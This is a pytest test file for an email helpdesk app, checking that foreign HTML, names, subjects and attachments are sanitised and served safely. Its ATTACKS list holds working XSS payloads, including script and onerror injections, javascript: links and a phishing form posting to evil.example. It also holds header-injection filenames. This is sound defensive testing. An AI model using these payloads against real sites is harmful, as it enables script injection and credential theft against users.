"""What strangers write stays words: nothing of theirs runs, loads or leaves its frame, on any page."""

from __future__ import annotations

import base64
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser

from everyhand.channels.email.models import Mail, RawMail
from everyhand.conversations.models import Attachment, Message
from everyhand.desk.inbound import Address, File
from everyhand.web import foreign_html
from tests.web.house import House, arrives, browser_of

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url('https://evil.example/x')\">x</p>",
    '<p style="background-image:\\75rl(https://evil.example/x)">x</p>',
    "<img srcset='https://evil.example/x 1x' src='https://evil.example/pixel.gif'>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<video poster=https://evil.example/x src=https://evil.example/y autoplay></video>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "{{ 7*7 }}{% for x in y %}",
]

FETCHED = {"https://evil.example/pixel.gif": "data:image/gif;base64,AA==", "x": "data:image/gif;base64,AA=="}
RUNS = {"script", "iframe", "object", "embed", "form", "input", "base", "meta", "link", "svg", "math", "video", "audio"}


def tree(html: str) -> list[Any]:
    root = LexborHTMLParser(html).body
    return list(root.traverse(include_text=False)) if root else []


def assert_harmless(html: str) -> None:
    for node in tree(html):
        assert node.tag not in RUNS, node.html
        for name, value in node.attributes.items():
            assert not name.startswith("on"), node.html
            assert name not in ("srcset", "background", "poster", "action", "formaction", "srcdoc", "id", "class")
            if name == "style":
                assert "url" not in (value or "").lower()
            if name in ("href", "src"):
                assert re.match(r"(https?|mailto|tel|data:image/(png|jpeg|gif|webp);base64,)", value or ""), node.html


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_html_of_a_mail_holds_nothing_that_acts(attack: str) -> None:
    assert_harmless(foreign_html.cleaned(attack, own={}, from_outside=FETCHED))


@given(
    st.lists(st.sampled_from([*ATTACKS, "<p>", "</p>", "<!--", "-->", "<style>", "<b", ">", "&lt;", "\0"]), max_size=8)
)
def test_no_mixture_of_attacks_acts_either(parts: list[str]) -> None:
    assert_harmless(foreign_html.cleaned("".join(parts), own={}, from_outside=FETCHED))


def test_no_picture_is_loaded_from_outside_even_when_it_was_asked_for() -> None:
    mail = '<img src=" https://shop.example/logo.png" alt="Logo"><img src="http://shop.example/old.png">'
    for fetched in ({}, {"https://shop.example/logo.png": "data:image/png;base64,AA=="}):
        shown = foreign_html.cleaned(mail, own={}, from_outside=fetched)
        assert "shop.example" not in shown
        assert 'alt="Logo"' in shown
        assert ("data:image/png;base64,AA==" in shown) == bool(fetched)


def test_a_mail_keeps_its_looks() -> None:
    mail = '<table width="600" bgcolor="#eee"><tr><td style="color: red; padding: 4px"><b>Bold</b></td></tr></table>'
    shown = foreign_html.cleaned(mail, own={}, from_outside={})
    for kept in ('width="600"', 'bgcolor="#eee"', "color:red", "padding:4px", "<b>Bold</b>"):
        assert kept in shown.replace(": ", ":")


def test_the_frame_of_a_mail_has_a_policy_of_its_own(house: House) -> None:
    pixel = base64.b64decode("R0lGODlhAQABAAAAACwAAAAAAQABAAA=")
    own = File("logo.gif", "image/gif", pixel, content_id="<logo@paper>", inline=True)
    html = '<p>Hello</p><img src="cid:logo@paper"><img src="cid:unknown"><img src="https://evil.example/x">'
    message = arrives(html=html, files=[own]).message
    frame = browser_of(house.ana).get(f"/messages/{message.pk}/html")
    policy = frame.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy
    assert "sandbox allow-popups" in policy
    assert "allow-scripts" not in policy
    assert "allow-same-origin" not in policy
    assert "https:" not in policy
    assert frame.headers["Referrer-Policy"] == "no-referrer"
    assert frame.headers["X-Frame-Options"] == "SAMEORIGIN"
    shown = frame.content.decode()
    assert f"data:image/gif;base64,{base64.b64encode(pixel).decode()}" in shown
    assert "evil.example" not in shown
    assert "cid:" not in shown
    asked = browser_of(house.ana).get(f"/messages/{message.pk}/html?images=1")
    assert asked.headers["Content-Security-Policy"] == policy
    assert "evil.example" not in asked.content.decode()
    assert "1 picture could not be fetched" in asked.content.decode()


@pytest.mark.parametrize("attack", [one for one in ATTACKS if len(one) < 45])
def test_words_are_words_on_every_page(house: House, attack: str) -> None:
    """Names, addresses, subjects, texts, notes, file names and headers, each with the attack in it."""
    sender = Address(attack, "mallory@example.org")
    file = File(f"{attack}.pdf", "application/pdf", b"%PDF")
    received = arrives(
        f"route 4 {attack}", sender=sender, subject=attack, files=[file], cc=[Address(attack, "eve@example.org")]
    )
    raw = RawMail.objects.create(digest="1" * 64, size=9, content=f"Subject: {attack}\n\n{attack}".encode())
    now = received.message.at
    mail = Mail.objects.create(
        raw=raw, source=attack, accepted_at=now, due_at=now, quarantined_at=now, outcome="quarantined",
        why=attack[:500], sender=attack, subject=attack, last_error=attack,
    )  # fmt: skip
    house.carla.name = house.carla.title = attack
    house.carla.save()
    browser = browser_of(house.ana)
    number = received.conversation.pk
    browser.post(f"/conversations/{number}/notes", {"text": attack})
    pages = [
        browser.get("/inbox/mine"),
        browser.get("/inbox/everyone"),
        browser.get(f"/conversations/{number}"),
        browser.post(f"/conversations/{number}/replies", {"text": attack, "seen": 0}),
        browser.post("/ownership-map/trial", {"text": attack}),
        browser.get("/people"),
        browser.get(f"/people/{house.carla.pk}"),
        browser.get("/mail-ledger"),
        browser.get("/quarantine"),
        browser.get(f"/quarantine/{mail.pk}"),
        browser.get("/stuck-work"),
        browser.get(f"/{attack}"),
    ]
    for page in pages:
        assert page.status_code in (200, 404, 409)
        for node in tree(page.content.decode()):
            assert "alert(1)" not in (node.text(deep=False) if node.tag == "script" else "")
            for name, value in node.attributes.items():
                assert not name.startswith("on")
                if name in ("href", "src", "action", "formaction"):
                    assert "javascript:" not in re.sub(r"\s", "", value or "").lower()
            assert node.tag not in ("object", "embed", "base", "math", "video")


@pytest.mark.parametrize(
    ("name", "type_", "served_as"),
    [
        ("letter.html", "text/html", "application/octet-stream"),
        ("picture.svg", "image/svg+xml", "application/octet-stream"),
        ("run.js", "text/javascript", "application/octet-stream"),
        ("photo.jpg", "image/jpeg", "image/jpeg"),
        ('a"; filename="b.exe', "application/pdf", "application/pdf"),
        ("line\r\nSet-Cookie: x=1.txt", "text/plain", "text/plain"),
        ("“Ünïcode” 漢字.pdf", "application/pdf", "application/pdf"),
    ],
)
def test_files_are_only_ever_downloads(house: House, name: str, type_: str, served_as: str) -> None:
    arrives(files=[File(name, type_, b"<script>alert(1)</script>")])
    token = Attachment.objects.get().token
    download = browser_of(house.ana).get(f"/attachments/{token}")
    assert download.headers["Content-Type"] == served_as
    assert download.headers["Content-Disposition"].startswith("attachment")
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert "\n" not in download.headers["Content-Disposition"]
    assert "Set-Cookie" not in download.headers


def test_the_raw_mail_is_a_download_byte_for_byte(house: House) -> None:
    received = arrives()
    content = b"Subject: x\r\n\r\n\xff\x00raw"
    raw = RawMail.objects.create(digest="2" * 64, size=len(content), content=content)
    at = received.message.at
    Mail.objects.create(raw=raw, source="test", accepted_at=at, due_at=at, done_at=at, message=received.message)
    page = browser_of(house.ana).get(f"/conversations/{received.conversation.pk}")
    assert f"/messages/{received.message.pk}/raw" in page.content.decode()
    download = browser_of(house.ana).get(f"/messages/{received.message.pk}/raw")
    assert download.content == content
    assert download.headers["Content-Disposition"] == f'attachment; filename="everyhand-{received.message.pk}.eml"'
    assert Message.objects.count() == 1
